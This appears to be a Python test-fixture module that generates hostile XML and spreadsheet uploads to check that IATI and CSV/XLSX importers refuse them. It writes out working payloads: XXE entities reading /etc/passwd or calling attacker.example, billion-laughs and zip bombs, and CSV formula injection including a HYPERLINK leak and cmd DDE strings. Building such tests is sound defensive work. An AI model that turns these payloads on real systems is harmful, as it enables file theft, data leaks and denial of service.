"""A corpus of hostile and broken files for the IATI and spreadsheet importers, generated
when a test asks for it (no binary blob is checked in).

Each ``HostileFile`` has the name it is uploaded under, a function that builds its bytes
(some are large: built only when used), and the words the hub's answer must hold, besides
the file's name. ``IATI_FILES`` go to the IATI upload and ``import-iati``; ``SHEET_FILES``
to the spreadsheet upload and ``import-sheet``. Files the hub refuses as a whole are
``refused``; the others (formulas, other encodings, BOMs) are read with a warning that
names the row and column.
"""

import codecs
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from tests.iati.documents import activity_xml, document_xml
from tests.sheets.builders import csv_text, engagement_row, rewritten_xlsx, xlsx_bytes

SHEET_PART = "xl/worksheets/sheet1.xml"
CONTENT_TYPES = "[Content_Types].xml"
WORKBOOK_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_WORKBOOK_TYPE = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
DEEP_NESTING_LEVELS = 100_000
HUGE_ATTRIBUTE_BYTES = 50 * 1024 * 1024


@dataclass(frozen=True)
class HostileFile:
    name: str
    build: Callable[[], bytes]
    expected: str  # words the refusal or the warning must hold
    refused: bool = True

    def __str__(self) -> str:
        return self.name


# -- IATI activity files ------------------------------------------------------------

ACTIVITY = activity_xml("XI-IATI-EC_INTPA-HOSTILE-1", title="Support to migration governance")
CLEAN_IATI = document_xml(ACTIVITY).encode()

LAUGHS = "".join(
    f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' if level else '<!ENTITY lol0 "lol">' for level in range(10)
)


def _iati_with_prolog(prolog: str, title: str) -> bytes:
    activity = activity_xml("XI-IATI-EC_INTPA-HOSTILE-1", title=title)
    return document_xml(activity, prolog=prolog).encode()


def billion_laughs() -> bytes:
    return _iati_with_prolog(f"<!DOCTYPE iati-activities [{LAUGHS}]>\n", "&lol9;")


def quadratic_blowup() -> bytes:
    prolog = f'<!DOCTYPE iati-activities [<!ENTITY a "{"x" * 100_000}">]>\n'
    return _iati_with_prolog(prolog, "&a;" * 10_000)


def external_file_entity() -> bytes:
    return _iati_with_prolog('<!DOCTYPE iati-activities [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', "&xxe;")


def external_http_entity() -> bytes:
    prolog = '<!DOCTYPE iati-activities [<!ENTITY xxe SYSTEM "http://attacker.example/secret">]>\n'
    return _iati_with_prolog(prolog, "&xxe;")


def external_dtd() -> bytes:
    return _iati_with_prolog('<!DOCTYPE iati-activities SYSTEM "http://attacker.example/iati.dtd">\n', "Migration")


def deep_nesting() -> bytes:
    depth = DEEP_NESTING_LEVELS
    nested = "<description>" * depth + "deep" + "</description>" * depth
    return document_xml(activity_xml("XI-IATI-EC_INTPA-DEEP", parts=nested)).encode()


def invalid_utf8() -> bytes:
    return CLEAN_IATI.replace(b"Support to migration", b"Support to migr\xc3\x28tion \xff\xfe")


def huge_attribute() -> bytes:
    value = b"A" * HUGE_ATTRIBUTE_BYTES
    return CLEAN_IATI.replace(b'default-currency="EUR"', b'default-currency="EUR" huge="' + value + b'"')


def truncated_iati() -> bytes:
    return CLEAN_IATI[: len(CLEAN_IATI) * 2 // 3]


def binary_named_xml() -> bytes:
    # A PNG signature, then bytes that are neither text nor markup.
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8


IATI_FILES = [
    HostileFile("billion-laughs.xml", billion_laughs, "DTDs and entity declarations are refused"),
    HostileFile("quadratic-blowup.xml", quadratic_blowup, "DTDs and entity declarations are refused"),
    HostileFile("xxe-file.xml", external_file_entity, "DTDs and entity declarations are refused"),
    HostileFile("xxe-http.xml", external_http_entity, "DTDs and entity declarations are refused"),
    HostileFile("external-dtd.xml", external_dtd, "DTDs and entity declarations are refused"),
    HostileFile("deep-nesting.xml", deep_nesting, "malformed XML"),
    HostileFile("invalid-utf8.xml", invalid_utf8, "malformed XML"),
    HostileFile("huge-attribute.xml", huge_attribute, "malformed XML"),
    HostileFile("truncated.xml", truncated_iati, "malformed XML"),
    HostileFile("empty.xml", lambda: b"", "the file is empty"),
    HostileFile("binary.xml", binary_named_xml, "this is not an XML file: it holds binary data"),
]


# -- spreadsheets -------------------------------------------------------------------

CLEAN_ROWS = [engagement_row("BMI-HOSTILE-1")]


def clean_xlsx() -> bytes:
    return xlsx_bytes(CLEAN_ROWS)


def _csv(rows=None, delimiter: str = ",") -> str:
    return csv_text(rows or CLEAN_ROWS, delimiter=delimiter)


def pipe_delimited_csv() -> bytes:
    return _csv(delimiter="|").encode()


def single_column_csv() -> bytes:
    """Each line one cell: the delimiter is none the hub knows (a colon)."""
    return _csv(delimiter=":").encode()


def utf16_csv() -> bytes:
    return _csv([engagement_row("BMI-HOSTILE-1", title="Réintégration à Tétouan")]).encode("utf-16")


def utf16_csv_without_bom() -> bytes:
    return _csv().encode("utf-16-le")


def latin1_csv() -> bytes:
    return _csv([engagement_row("BMI-HOSTILE-1", title="Réintégration à Tétouan")]).encode("latin-1")


def utf8_bom_csv() -> bytes:
    return codecs.BOM_UTF8 + _csv().encode()


FORMULAS = {
    "title": '=HYPERLINK("http://attacker.example/?leak="&A2,"Click")',
    "description": "+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "action_plan_reference": "-2+3+cmd|' /C calc'!A0",
}


def formula_csv() -> bytes:
    return _csv([engagement_row("BMI-HOSTILE-1", **FORMULAS)]).encode()


def formula_xlsx() -> bytes:
    """Formula-like text in cells, and one real formula, saved with no result as a program
    that computes nothing writes it."""
    cells = {**FORMULAS, "title": "Reintegration counselling", "notes": FORMULAS["title"]}
    return xlsx_bytes([engagement_row("BMI-HOSTILE-1", **cells)])


def macro_content_type_xlsx() -> bytes:
    data = clean_xlsx()
    types = zipfile.ZipFile(io.BytesIO(data)).read(CONTENT_TYPES).replace(WORKBOOK_TYPE, MACRO_WORKBOOK_TYPE)
    return rewritten_xlsx(data, replace={CONTENT_TYPES: types})


def vba_project_xlsx() -> bytes:
    return rewritten_xlsx(clean_xlsx(), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 508})


def zip_bomb_xlsx() -> bytes:
    """Forty megabytes of zeros in a few dozen kilobytes, inside an otherwise valid workbook."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with zipfile.ZipFile(io.BytesIO(clean_xlsx())) as source:
            for item in source.infolist():
                archive.writestr(item.filename, source.read(item.filename))
        with archive.open("xl/media/bomb.xml", "w", force_zip64=True) as bomb:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(40):
                bomb.write(chunk)
    return buffer.getvalue()


def entity_bomb_xlsx() -> bytes:
    sheet = f'<?xml version="1.0"?><!DOCTYPE worksheet [{LAUGHS}]><worksheet>&lol9;</worksheet>'
    return rewritten_xlsx(clean_xlsx(), replace={SHEET_PART: sheet.encode()})


def deep_nesting_xlsx() -> bytes:
    depth = DEEP_NESTING_LEVELS
    sheet = b"<worksheet>" + b"<x>" * depth + b"</x>" * depth + b"</worksheet>"
    return rewritten_xlsx(clean_xlsx(), replace={SHEET_PART: sheet})


def truncated_xlsx() -> bytes:
    data = clean_xlsx()
    return data[: len(data) // 2]


SHEET_FILES = [
    HostileFile("pipe-delimited.csv", pipe_delimited_csv, "separated by commas, semicolons or tabs"),
    HostileFile("colon-delimited.csv", single_column_csv, "separated by commas, semicolons or tabs"),
    HostileFile("utf16-without-bom.csv", utf16_csv_without_bom, "UTF-16"),
    HostileFile("utf16.csv", utf16_csv, "", refused=False),
    HostileFile("latin1.csv", latin1_csv, "not in UTF-8", refused=False),
    HostileFile("utf8-bom.csv", utf8_bom_csv, "", refused=False),
    HostileFile("formulas.csv", formula_csv, "formulas are never run", refused=False),
    HostileFile("formulas.xlsx", formula_xlsx, "Formulas are never run", refused=False),
    HostileFile("macros.xlsm", clean_xlsx, "macros"),
    HostileFile("macro-content-type.xlsx", macro_content_type_xlsx, "macros"),
    HostileFile("vba-project.xlsx", vba_project_xlsx, "macros"),
    HostileFile("zip-bomb.xlsx", zip_bomb_xlsx, "zip bombs"),
    HostileFile("entity-bomb.xlsx", entity_bomb_xlsx, "XML entities"),
    HostileFile("deep-nesting.xlsx", deep_nesting_xlsx, "more than 100 levels deep"),
    HostileFile("truncated.xlsx", truncated_xlsx, "not a valid Excel workbook"),
    HostileFile("empty.csv", lambda: b"", "The file is empty"),
    HostileFile("empty.xlsx", lambda: b"", "The file is empty"),
    HostileFile("binary.xlsx", binary_named_xml, "not a valid Excel workbook"),
    HostileFile("binary.csv", binary_named_xml, "binary data"),
]
